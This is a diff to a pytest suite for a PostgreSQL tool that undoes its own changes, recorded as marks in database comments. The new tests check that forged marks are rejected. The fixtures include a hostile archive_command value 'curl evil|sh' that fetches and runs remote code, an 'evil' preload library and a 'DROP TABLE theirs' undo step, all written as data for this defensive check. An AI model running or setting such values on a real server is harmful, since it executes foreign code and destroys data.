@@ -3,23 +3,27 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from psycopg import sql
 
-from pgassay.errors import RestoreFailed, TargetError
+from pgassay.errors import TargetError
 from pgassay.samples.journal import FileJournal, open_changes
-from pgassay.server.change import SettingChange
+from pgassay.server.change import Change, KnobChange, SettingChange, VariantChange
 from pgassay.server.comparison import Comparison
-from pgassay.server.connection.session import resolve
+from pgassay.server.connection.session import identity, resolve
 from pgassay.server.existing.access import Access
 from pgassay.server.existing.snapshot import compared, snapshot
 from pgassay.server.existing.target import ExistingTarget
 from pgassay.server.preview.preview import preview_existing
-from pgassay.server.recovery.marked import MarkedServer
+from pgassay.server.recovery.marked import MarkedServer, acts_of_mark
 from pgassay.server.recovery.recover import recover
-from pgassay.server.undo.mark import Mark, with_mark
+from pgassay.server.undo.change_record import recorded, write_changes
+from pgassay.server.undo.mark import Mark, bare, with_mark
+from pgassay.server.undo.marking import left_on
 from support.runs.broken import LOAD, TOOL, spec_file, watched
 from support.runs.command import last_line, pgassay
 from support.runs.killed_at_phase import At, Phase, when_said
@@ -96,9 +100,9 @@ def undone(server: LabServer, dsn: str = "") -> str:
     """What is said of the server after everything is undone from its marks."""
     with MarkedServer(resolve(dsn or server.dsn())) as marked:
         (found,) = marked.marks
-        notes, comparison = marked.undo(found)
-        assert notes == []
-        return str(comparison)
+        done = marked.undo(found)
+        assert (done.notes, done.by_hand) == ([], "")
+        return str(done.comparison)
 
 
 @pytest.mark.usefixtures("elsewhere")
@@ -108,8 +112,9 @@ def test_no_run_passes_a_mark_that_it_does_not_know(server: LabServer) -> None:
     words = (
         r"a run of .*@.* \(.*/killed, role lab, 20.* UTC\) was killed while it had changed this"
         r" server: setting fsync = off \(before: on\); setting work_mem = 16MB or 8MB"
-        r" \(before: 6MB\); schema pgassay of database lab; `pgassay recover --server '.*'` puts"
-        r" it back"
+        r" \(before: 6MB\); schema pgassay of database lab \(so says the comment of database"
+        r" postgres, which its owner .* may write\); `pgassay recover --server '.*'` puts it back,"
+        r" as lab or a superuser"
     )
     try:
         for dsn in (server.dsn(), server.dsn(dbname="another"), server.dsn(user="plain")):
@@ -156,9 +161,11 @@ def test_what_others_have_changed_since_is_kept(server: LabServer) -> None:
         session.execute("ALTER SYSTEM SET work_mem = '77MB'")
     with MarkedServer(resolve(server.dsn())) as marked:
         (found,) = marked.marks
-        (note,), comparison = marked.undo(found)
+        done = marked.undo(found)
+    (note,) = done.notes
     assert "work_mem is 77MB now, which this run did not write" in note
-    assert "postgresql.auto.conf: not as before" in str(comparison)
+    assert {one.what for one in done.changes} == {"setting fsync", "schema pgassay of database lab"}
+    assert "postgresql.auto.conf: not as before" in str(done.comparison)
     with server.admin() as session:
         session.execute("ALTER SYSTEM SET work_mem = '6MB'")
         session.execute("ALTER SYSTEM SET maintenance_work_mem = '65MB'")
@@ -188,20 +195,91 @@ def test_the_mark_of_a_databases_owner_stands_below_its_own_comment(
     assert "connected as plain" in undone(server, server.dsn(dbname="postgres"))
 
 
-def test_a_forged_mark_gives_its_author_no_rights(server: LabServer) -> None:
+@contextmanager
+def forged(
+    server: LabServer, *changes: Change, run: str = "forged", at: str = "lab", text: str = ""
+) -> Iterator[None]:
+    """What the owner of a database can write: any mark, of any role."""
+    command = sql.SQL("COMMENT ON DATABASE {} IS {}")
+    with server.admin() as session:
+        own = scalar(session, COMMENT_OF.replace("lab", at))
+        mark = text or with_mark(own or "", Mark("", run, "lab@here", "lab", "now", changes))
+        session.execute(command.format(sql.Identifier(at), sql.Literal(mark)))
+    yield
+    with server.admin() as session:
+        session.execute(command.format(sql.Identifier(at), sql.Literal(own)))
+
+
+PROGRAM = SettingChange(name="archive_command", value="", found="curl evil|sh")
+LIBRARY = SettingChange(name="Shared_Preload_Libraries", value="", found="evil")
+VARIANT = VariantChange(database="lab", name="v", part=1, parts=1, undo="DROP TABLE theirs")
+KNOB = KnobChange(name="vm.swappiness", value="1", found="66")
+
+
+@pytest.mark.parametrize(
+    "change", [SettingChange(name="work_mem", value="6MB", found="123MB"), PROGRAM, VARIANT, KNOB]
+)
+def test_a_forged_mark_gives_its_author_no_rights_and_no_voice(
+    server: LabServer, change: Change
+) -> None:
     """Whoever owns a database writes its comment, and knows what a setting is now."""
-    change = SettingChange(name="work_mem", value="6MB", found="123MB")
-    forged = Mark("", "forged", "lab@here", "lab", "now", (change,))
-    with server.admin() as session:
-        text = sql.Literal(with_mark(COMMENT, forged))
-        session.execute(sql.SQL("COMMENT ON DATABASE lab IS {}").format(text))
-    with MarkedServer(resolve(server.dsn())) as marked:
+    with forged(server, change):
+        with pytest.raises(TargetError, match="comment of database lab, which its owner plain may"):
+            opened(server, RecordingJournal())
+        done = pgassay("recover", "--server", "", "--yes", **server.variables(), COLUMNS="500")
+    assert done.returncode == 5, done.stdout
+    assert "undone" not in done.stdout
+    assert "the mark is forged, or plain has lost rights" in last_line(done.stderr)
+    assert 'COMMENT ON DATABASE "lab" IS E' in last_line(done.stderr)
+    for hers in ("ALTER SYSTEM", "curl", "DROP TABLE", "echo"):
+        assert hers not in done.stdout + done.stderr
+
+
+@pytest.mark.parametrize("change", [PROGRAM, LIBRARY])
+def test_no_mark_sets_what_may_name_a_program(server: LabServer, change: SettingChange) -> None:
+    """Also not that of a superuser's database: another role may have owned it before."""
+    with (
+        forged(server, change, at="postgres"),
+        MarkedServer(resolve(server.dsn())) as marked,
+    ):
         (found,) = marked.marks
-        assert (found.author, found.of_superuser) == ("plain", False)
-        with pytest.raises(RestoreFailed, match="permission denied"):
-            marked.undo(found)
+        assert found.of_superuser
+        done = marked.undo(found)
+    assert not done.changes
+    assert "may name a program or a file" in done.by_hand
+    assert "SET" not in done.by_hand
+    assert "curl" not in done.by_hand + "".join(act.text for act in acts_of_mark(found))
+
+
+def test_a_variant_stays_in_the_mark_and_the_record_until_a_person_has_undone_it(
+    server: LabServer,
+) -> None:
+    work_mem = SettingChange(name="work_mem", value="6MB", found="6MB")
+    again = SettingChange(name="work_mem", value="9MB", found="7MB")
     with server.admin() as session:
-        session.execute(sql.SQL("COMMENT ON DATABASE lab IS {}").format(sql.Literal(COMMENT)))
+        here = identity(session) or ""
+    write_changes(here, [replace(one, run="known") for one in (VARIANT, work_mem, again)])
+    with forged(server, VARIANT, work_mem, run="known", at="postgres"):
+        with MarkedServer(resolve(server.dsn(dbname="postgres"))) as marked:
+            done = marked.undo(marked.marks[0])
+        with MarkedServer(resolve(server.dsn())) as marked:
+            (still,) = marked.marks
+    assert [one.what for one in done.changes] == [work_mem.what]
+    assert r" run there yourself: \connect lab \\ BEGIN; SET LOCAL" in done.by_hand
+    assert still.mark.changes == (bare(VARIANT),)
+    assert [bare(one) for one in recorded(here)] == [bare(VARIANT), bare(again)]
+    with server.admin() as session:  # the order of the lines as before
+        session.execute("ALTER SYSTEM SET maintenance_work_mem = '65MB'")
+
+
+@pytest.mark.usefixtures("elsewhere")
+def test_a_comment_that_no_run_wrote_keeps_no_mark_from_being_undone(server: LabServer) -> None:
+    with forged(server, text='pgassay: hi\n{"form": 1}'):
+        done = pgassay("recover", "--server", "", "--yes", **server.variables(), COLUMNS="500")
+        assert "the comment of database lab says" in left_on(resolve(server.dsn()))
+    assert done.returncode == 5, done.stdout
+    assert "undone: setting fsync\n" in done.stdout
+    assert "as plain, who owns it, or as a superuser: COMMENT ON" in last_line(done.stderr)
 
 
 @pytest.mark.parametrize(
@@ -210,14 +288,11 @@ def test_a_forged_mark_gives_its_author_no_rights(server: LabServer) -> None:
 )
 def test_a_mark_that_no_run_wrote_stops_with_one_line(server: LabServer, text: str) -> None:
     comment = f'{COMMENT}\npgassay: hello\n{{"form": {text}'
-    with server.admin() as session:
-        session.execute(sql.SQL("COMMENT ON DATABASE lab IS {}").format(sql.Literal(comment)))
-    try:
-        with pytest.raises(TargetError, match=r"the comment of database lab says .* plain, who"):
-            opened(server, RecordingJournal())
-    finally:
-        with server.admin() as session:
-            session.execute(sql.SQL("COMMENT ON DATABASE lab IS {}").format(sql.Literal(COMMENT)))
+    with (
+        forged(server, text=comment),
+        pytest.raises(TargetError, match=r"the comment of database lab says .* plain, who"),
+    ):
+        opened(server, RecordingJournal())
 
 
 KILLED_AT: dict[str, Phase] = {
